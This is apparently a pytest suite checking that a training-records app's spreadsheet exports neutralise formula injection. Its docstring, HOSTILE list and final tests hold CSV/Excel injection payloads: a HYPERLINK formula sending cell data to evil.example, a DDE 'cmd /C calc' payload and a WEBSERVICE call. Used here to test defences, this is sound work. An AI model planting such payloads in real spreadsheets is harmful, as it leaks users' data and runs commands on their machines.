"""Formula injection: whatever a person typed, every spreadsheet we hand out holds it as text, never as a formula.

A name such as `=HYPERLINK("http://evil/?"&A1,"Bấm")` typed at sign-up, or a roll-call note
`@SUM(1+1)*cmd|' /C calc'!A0`, must open in Excel or LibreOffice as the characters typed, not run. Each export is
downloaded through its real route (API and page), opened with openpyxl, and every cell is checked.
"""
from __future__ import annotations

from datetime import datetime
from io import BytesIO

import pytest
from openpyxl import load_workbook

from app.attendance import service as attendance
from app.core.spreadsheet import FORMULA_STARTS, safe_cell, to_bytes
from tests.attendance.conftest import course_with_class  # noqa: F401 - a fixture, shared
from tests.helpers import api_token, sign_in
from tests.people.factories import person

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1;"Bấm")', "+84 912 345 678", "-2+3+cmd|' /C calc'!A0",
           "@SUM(1+1)", "\t=1+1", "\r=1+1", "Nguyễn\x01Văn\x0bAn"]


def _cells(content: bytes) -> list:
    wb = load_workbook(BytesIO(content))
    return [cell for ws in wb.worksheets for row in ws.iter_rows() for cell in row if cell.value is not None]


def assert_inert(content: bytes) -> list[str]:
    """No cell is a formula and no text could become one when edited; returns the texts, for further checks."""
    texts = []
    for cell in _cells(content):
        assert cell.data_type != "f", f"{cell.coordinate} holds a formula: {cell.value!r}"
        if isinstance(cell.value, str):
            assert cell.value[:1] not in FORMULA_STARTS, f"{cell.coordinate} starts like a formula: {cell.value!r}"
            texts.append(cell.value)
    return texts


@pytest.fixture
def hostile_class(db, client, course_with_class):  # noqa: F811
    """The attendance class, its people renamed through the API to hostile names, and notes on their marks."""
    c = course_with_class
    headers = {"Authorization": f"Bearer {api_token(client, c['organiser'].username)}"}
    for i, e in enumerate(c["enrolments"]):
        row = person(i + 1)  # the people of the class, as the factory made them
        birth = datetime.strptime(row["Ngày sinh"], "%d/%m/%Y").date()
        body = {"full_name": HOSTILE[i], "sex": row["Giới tính"], "birth_date": birth.isoformat(), "ethnicity": "Kinh",
                "citizen_id": row["Số CCCD"], "position": row["Chức danh"], "organisation_type": row["Loại tổ chức"],
                "commune": "07432", "in_charge_of_radio": True}
        r = client.put(f"/api/v1/trainees/{e.trainee_id}", headers=headers, json=body)
        assert r.status_code == 200, r.text
    sessions = client.get(f"/api/v1/courses/{c['course'].id}/sessions", headers=headers).json()["items"]
    marks = [{"session_id": s["id"], "enrolment_id": e.id, "status": "present", "note": HOSTILE[(j + 3) % 7]}
             for j, (s, e) in enumerate((s, e) for s in sessions for e in c["enrolments"])]
    r = client.post(f"/api/v1/courses/{c['course'].id}/attendance", headers=headers, json={"marks": marks})
    assert r.status_code == 200, r.text
    return {**c, "headers": headers}


def test_the_trainees_export_holds_names_as_text(client, hostile_class):
    c = hostile_class
    api = client.get("/api/v1/trainees/export.xlsx", headers=c["headers"])
    assert api.status_code == 200
    texts = assert_inert(api.content)
    assert "'" + HOSTILE[0] in texts and "'" + HOSTILE[2] in texts
    assert "NguyễnVănAn" not in texts  # only three people: the seventh name is not among them
    assert sign_in(client, c["organiser"].username).status_code == 303
    page = client.get("/trainees/export.xlsx")
    assert page.status_code == 200
    assert_inert(page.content)


def test_the_class_list_holds_names_as_text(client, hostile_class):
    c = hostile_class
    api = client.get(f"/api/v1/courses/{c['course'].id}/enrolments/export.xlsx", headers=c["headers"])
    assert api.status_code == 200, api.text
    texts = assert_inert(api.content)
    assert {"'" + HOSTILE[0], "'" + HOSTILE[1], "'" + HOSTILE[2]} <= set(texts)
    assert sign_in(client, c["organiser"].username).status_code == 303
    page = client.get(f"/courses/{c['course'].id}/enrolments/export.xlsx")
    assert page.status_code == 200
    assert_inert(page.content)


def test_the_marks_template_holds_names_and_notes_as_text(client, hostile_class):
    c = hostile_class
    api = client.get(f"/api/v1/courses/{c['course'].id}/attendance/template.xlsx", headers=c["headers"])
    assert api.status_code == 200, api.text
    texts = assert_inert(api.content)
    assert "'" + HOSTILE[3] in texts  # a note
    assert "NguyễnVănAn" in texts  # control characters an .xlsx cannot hold are dropped, not a failed export
    assert sign_in(client, c["organiser"].username).status_code == 303
    page = client.get(f"/courses/{c['course'].id}/attendance/template.xlsx")
    assert page.status_code == 200
    assert_inert(page.content)


@pytest.mark.parametrize("path", ["/api/v1/trainees/import/template.xlsx"])
def test_the_import_templates_are_inert(client, make_user, path):
    organiser = make_user("organiser", unit="24")
    r = client.get(path, headers={"Authorization": f"Bearer {api_token(client, organiser.username)}"})
    assert r.status_code == 200
    assert_inert(r.content)


def test_the_enrolment_list_template_is_inert(client, db, course_with_class):  # noqa: F811
    c = course_with_class
    assert sign_in(client, c["organiser"].username).status_code == 303
    r = client.get(f"/courses/{c['course'].id}/enrolments/import/template.xlsx")
    assert r.status_code == 200
    assert_inert(r.content)


def test_a_formula_put_in_a_sheet_by_any_path_leaves_as_text():
    """to_bytes is the last gate: even a value written without safe_cell leaves as text."""
    from openpyxl import Workbook

    wb = Workbook()
    wb.active.append(["=1+1", "+1", "ok", 5, None])
    wb.active["B2"] = "=WEBSERVICE(\"http://evil\")"
    texts = assert_inert(to_bytes(wb))
    assert texts == ["'=1+1", "'+1", "ok", "'=WEBSERVICE(\"http://evil\")"]


def test_safe_cell():
    assert safe_cell("=1+1") == "'=1+1"
    assert safe_cell("Nguyễn Văn An") == "Nguyễn Văn An"
    assert safe_cell("a\x00b\x1fc") == "abc"
    assert safe_cell(12) == 12 and safe_cell(None) is None


def test_marks_recorded_with_notes_are_kept_verbatim(db, hostile_class):
    """Neutralising happens on the way out: what was typed is stored as typed."""
    c = hostile_class
    grid = attendance.grid(db, c["who"], c["course"].id)
    notes = {m.note for m in grid.marks.values()}
    assert HOSTILE[3] in notes
